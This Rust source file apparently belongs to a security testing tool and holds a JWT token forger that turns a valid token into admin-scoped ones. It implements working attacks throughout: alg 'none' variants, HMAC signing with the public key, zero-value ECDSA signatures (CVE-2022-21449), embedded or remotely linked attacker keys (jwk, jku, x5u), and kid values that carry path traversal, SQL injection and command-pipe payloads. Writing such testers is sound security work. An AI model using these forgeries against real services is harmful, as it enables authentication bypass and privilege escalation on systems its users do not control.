//! Forges access tokens as an attacker would, who has a token of their own and the published keys.

use crate::client::random_u64;
use crate::jwt::{Jwt, published_key};
use anyhow::{Context, Result, bail};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use hmac::{Hmac, Mac};
use p256::ecdsa::signature::Signer;
use p256::ecdsa::{Signature, SigningKey, VerifyingKey};
use serde_json::{Value, json};
use sha2::Sha256;

/// SubjectPublicKeyInfo of a P-256 key up to its point (RFC 5480 §2): the same for every key.
const SPKI_PREFIX: [u8; 26] = [
    0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01, 0x06, 0x08, 0x2a, 0x86,
    0x48, 0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00,
];

/// Forges tokens with more privileges than the valid token `valid`, by one technique. `jwks` are the published keys, and
/// `key_server` is a URL whose requests the attacker can read.
pub fn forge(technique: &str, valid: &str, jwks: &Value, key_server: &str) -> Result<Vec<String>> {
    let Jwt {
        header,
        mut claims,
        signature,
    } = Jwt::decode(valid)?;
    claims["admin"] = json!(true);
    claims["scope"] = json!("profile wishes users:read users:write audit:read tokens:introspect");
    let unsigned = |header: &Value| format!("{}.{}", encode(header), encode(&claims));
    let with = |member: &str, value: Value| {
        let mut header = header.clone();
        header[member] = value;
        header
    };
    let own_key = SigningKey::from_slice(&random_key())?;
    let signed = |header: &Value| sign(&own_key, &unsigned(header));
    Ok(match technique {
        "changing its claims" => vec![format!("{}.{signature}", unsigned(&header))],
        "signing with another key" => vec![signed(&header)],
        "sending an empty or zero signature" => {
            let zeros = URL_SAFE_NO_PAD.encode([0_u8; 64]);
            // r = s = 0 passes a verifier that does not check their range (CVE-2022-21449).
            ["", zeros.as_str(), "AA", "MAYCAQACAQA"]
                .map(|signature| format!("{}.{signature}", unsigned(&header)))
                .to_vec()
        }
        "setting alg to none" => ["none", "None", "NONE", "nOnE", ""]
            .into_iter()
            .map(|name| unsigned(&with("alg", json!(name))))
            .flat_map(|text| [format!("{text}."), format!("{text}.{signature}"), text])
            .collect(),
        "signing with HMAC and the public key" => {
            let header = with("alg", json!("HS256"));
            public_key_encodings(&published_key(jwks, &header)?)?
                .iter()
                .map(|key| hmac(key, &unsigned(&header)))
                .collect::<Result<_>>()?
        }
        "naming another algorithm" => [
            "RS256", "PS256", "ES384", "ES512", "EdDSA", "HS512", "ES256K", "es256",
        ]
        .map(|name| format!("{}.{signature}", unsigned(&with("alg", json!(name)))))
        .to_vec(),
        "embedding its own key (jwk)" => {
            let key =
                json!({ "kty": "EC", "crv": "P-256", "x": x_and_y(&own_key)?.0, "y": x_and_y(&own_key)?.1 });
            let mut named = key.clone();
            named["kid"] = header["kid"].clone();
            vec![signed(&with("jwk", key)), signed(&with("jwk", named))]
        }
        "linking to its own key (jku, x5u)" => ["jku", "x5u"]
            .map(|field| signed(&with(field, json!(key_server))))
            .to_vec(),
        "setting a malicious key id (kid)" => {
            let mut forged = Vec::new();
            for kid in [
                "../../../../../../../../dev/null",
                "/dev/null",
                "....//....//....//....//dev/null",
                "file:///dev/null",
                key_server,
                "' UNION SELECT 'AA",
                "x'; SELECT pg_sleep(9)--",
                "|/usr/bin/true",
                "0",
                "",
            ] {
                forged.push(signed(&with("kid", json!(kid))));
                let mut header = with("kid", json!(kid));
                header["alg"] = json!("HS256");
                // The keys that such a file or database row would yield.
                forged.push(hmac(b"", &unsigned(&header))?);
                forged.push(hmac(b"AA", &unsigned(&header))?);
            }
            forged
        }
        "breaking its structure" => vec![
            valid.replace('.', ""),
            valid.replacen('.', "..", 1),
            format!("{valid}.{signature}"),
            format!(".{valid}"),
            valid
                .split_once('.')
                .map(|(head, _)| head.to_owned())
                .unwrap_or_default(),
            format!("{}.{}.", encode(&header), encode(&json!([]))),
            format!("bm90IGpzb24.{}.{signature}", encode(&claims)),
            format!("{}.bm90IGpzb24.{signature}", encode(&header)),
            "a".repeat(9_000),
            STANDARD.encode(unsigned(&header)),
        ],
        _ => bail!("unknown technique {technique:?}"),
    })
}

/// Encodings of the public key that flawed verifiers have used as an HMAC key.
fn public_key_encodings(key: &VerifyingKey) -> Result<Vec<Vec<u8>>> {
    let point = key.to_encoded_point(false);
    let der = [SPKI_PREFIX.as_slice(), point.as_bytes()].concat();
    let text = STANDARD.encode(&der);
    let lines: Vec<&str> = [text.get(..64), text.get(64..)].into_iter().flatten().collect();
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----",
        lines.join("\n")
    );
    let (x, y) = (
        point.x().context("no x")?.to_vec(),
        point.y().context("no y")?.to_vec(),
    );
    let jwk = json!({ "kty": "EC", "crv": "P-256", "x": URL_SAFE_NO_PAD.encode(&x), "y": URL_SAFE_NO_PAD.encode(&y) });
    Ok(vec![
        format!("{pem}\n").into_bytes(),
        pem.into_bytes(),
        text.into_bytes(),
        der,
        point.as_bytes().to_vec(),
        [x.clone(), y].concat(),
        URL_SAFE_NO_PAD.encode(&x).into_bytes(),
        x,
        jwk.to_string().into_bytes(),
    ])
}

fn x_and_y(key: &SigningKey) -> Result<(String, String)> {
    let point = key.verifying_key().to_encoded_point(false);
    let text =
        |part: Option<&p256::FieldBytes>| part.map(|part| URL_SAFE_NO_PAD.encode(part)).context("no point");
    Ok((text(point.x())?, text(point.y())?))
}

fn sign(key: &SigningKey, unsigned: &str) -> String {
    let signature: Signature = key.sign(unsigned.as_bytes());
    format!("{unsigned}.{}", URL_SAFE_NO_PAD.encode(signature.to_bytes()))
}

fn hmac(key: &[u8], unsigned: &str) -> Result<String> {
    let mut mac = Hmac::<Sha256>::new_from_slice(key)?;
    mac.update(unsigned.as_bytes());
    Ok(format!(
        "{unsigned}.{}",
        URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes())
    ))
}

fn encode(part: &Value) -> String {
    URL_SAFE_NO_PAD.encode(part.to_string())
}

/// A random private key. The first byte keeps it below the order of the curve.
fn random_key() -> [u8; 32] {
    let mut bytes = [7_u8; 32];
    bytes[1..9].copy_from_slice(&random_u64().to_be_bytes());
    bytes[9..17].copy_from_slice(&random_u64().to_be_bytes());
    bytes
}
